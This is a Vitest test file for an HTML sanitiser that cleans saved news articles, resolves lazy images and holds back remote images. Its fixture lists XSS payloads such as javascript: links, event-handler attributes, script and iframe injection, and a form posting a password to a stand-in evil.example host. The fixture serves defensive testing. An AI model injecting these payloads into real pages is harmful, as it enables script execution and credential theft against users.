// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { loadParkedImages, prepareArticleHtml, renderArticleFragment, sanitizeArticleHtml, textOfHtml } from './sanitize';

const HOSTILE = `
  <h2 onclick="alert(1)">Heading</h2>
  <p style="color:red" class="lead" id="app" onmouseover="alert(2)">Text with <a href="javascript:alert(3)">a bad link</a>,
     <a href="JaVaScRiPt&colon;alert(4)">an encoded one</a>, <a href="/world/story">a relative one</a> and <a href="#notes">a fragment</a>.</p>
  <script>window.__pwned = 1</script>
  <img src="x" onerror="window.__pwned = 2" alt="broken">
  <iframe src="https://evil.example/frame" srcdoc="<script>alert(5)</script>"></iframe>
  <form action="https://evil.example/steal"><input name="pw" value="secret"><button formaction="https://evil.example">Go</button></form>
  <svg onload="alert(6)"><a xlink:href="javascript:alert(7)"><text>svg</text></a></svg>
  <object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
  <style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">
  <video src="https://evil.example/v.mp4" autoplay></video>
  <details open ontoggle="alert(8)"><summary>More</summary>hidden</details>
  <a href="data:text/html,<script>alert(9)</script>">data link</a>
  <meta http-equiv="refresh" content="0;url=https://evil.example">
  <p>Kept <strong>bold</strong> and <em>emphasis</em>.</p>
`;

function parse(html: string): Document {
  return new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
}

function assertInert(html: string): void {
  const doc = parse(html);
  expect(doc.querySelectorAll('script, style, iframe, frame, form, input, button, object, embed, svg, video, link, meta')).toHaveLength(0);
  for (const el of doc.body.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      expect(attr.name).not.toMatch(/^on/i);
      expect(['style', 'class', 'id', 'srcdoc', 'formaction', 'action']).not.toContain(attr.name);
      if (['href', 'src'].includes(attr.name)) expect(attr.value).toMatch(/^(https?:|mailto:|data:image\/)/i);
    }
  }
}

describe('prepareArticleHtml (saving)', () => {
  it('removes everything active and keeps the article’s text and markup', () => {
    const doc = parse(`<article>${HOSTILE}</article>`);
    const html = prepareArticleHtml(doc.querySelector('article')!, 'https://news.example/2024/story.html');
    assertInert(html);
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('Heading');
    expect(html).toContain('href="https://news.example/world/story"');
    expect(html).toContain('href="https://news.example/2024/story.html#notes"');
    expect(html).not.toMatch(/javascript/i);
    expect(html).not.toContain('evil.example');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('a bad link'); // the link text stays, the link goes
  });

  it('resolves lazy images and makes image URLs absolute', () => {
    const doc = parse(`<article>
      <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="/img/a.jpg" data-srcset="/img/a.jpg 1x, /img/a@2x.jpg 2x" loading="lazy" alt="A">
      <img src="/img/spacer.gif" data-lazy-src="img/b.jpg" alt="B">
      <img src="https://cdn.example/c.jpg" data-src="https://cdn.example/other.jpg" alt="C">
      <picture><source data-srcset="/img/d.webp 1x"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="D"></picture>
    </article>`);
    const html = prepareArticleHtml(doc.querySelector('article')!, 'https://news.example/world/story');
    const imgs = [...parse(html).querySelectorAll('img')];
    expect(imgs.map((i) => i.getAttribute('src'))).toEqual([
      'https://news.example/img/a.jpg',
      'https://news.example/world/img/b.jpg',
      'https://cdn.example/c.jpg',
      'https://news.example/img/d.webp',
    ]);
    expect(imgs[0]!.getAttribute('srcset')).toBe('https://news.example/img/a.jpg 1x, https://news.example/img/a@2x.jpg 2x');
    expect(html).not.toContain('loading=');
    expect(html).not.toContain('data-src');
  });

  it('does not change the node it was given', () => {
    const doc = parse('<article><p onclick="x()">Hi <a href="/a">a</a></p></article>');
    const article = doc.querySelector('article')!;
    const before = article.outerHTML;
    prepareArticleHtml(article, 'https://news.example/');
    expect(article.outerHTML).toBe(before);
  });
});

describe('rendering', () => {
  it('sanitises again whatever was stored (an import may hold anything)', () => {
    assertInert(sanitizeArticleHtml(HOSTILE));
    const fragment = renderArticleFragment(HOSTILE, { images: true });
    const div = document.createElement('div');
    div.append(fragment);
    assertInert(div.innerHTML);
  });

  it('parks remote images until the reader asks for them', () => {
    const html = '<p><img src="https://cdn.example/a.jpg" srcset="https://cdn.example/a2.jpg 2x" alt="A"><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline"></p>';
    const div = document.createElement('div');
    div.append(renderArticleFragment(html, { images: false }));
    const [remote, inline] = [...div.querySelectorAll('img')];
    expect(remote!.hasAttribute('src')).toBe(false);
    expect(remote!.hasAttribute('srcset')).toBe(false);
    expect(remote!.getAttribute('alt')).toBe('A');
    expect(inline!.getAttribute('src')).toMatch(/^data:image\/png/);
    loadParkedImages(div);
    expect(remote!.getAttribute('src')).toBe('https://cdn.example/a.jpg');
    expect(remote!.getAttribute('srcset')).toBe('https://cdn.example/a2.jpg 2x');
  });

  it('gives the plain text of HTML with paragraph breaks, without script text', () => {
    expect(textOfHtml('<h1>Title</h1><p>One <b>two</b>.</p><script>evil()</script><p>Three</p>')).toBe('Title\n\nOne two.\n\nThree');
  });
});
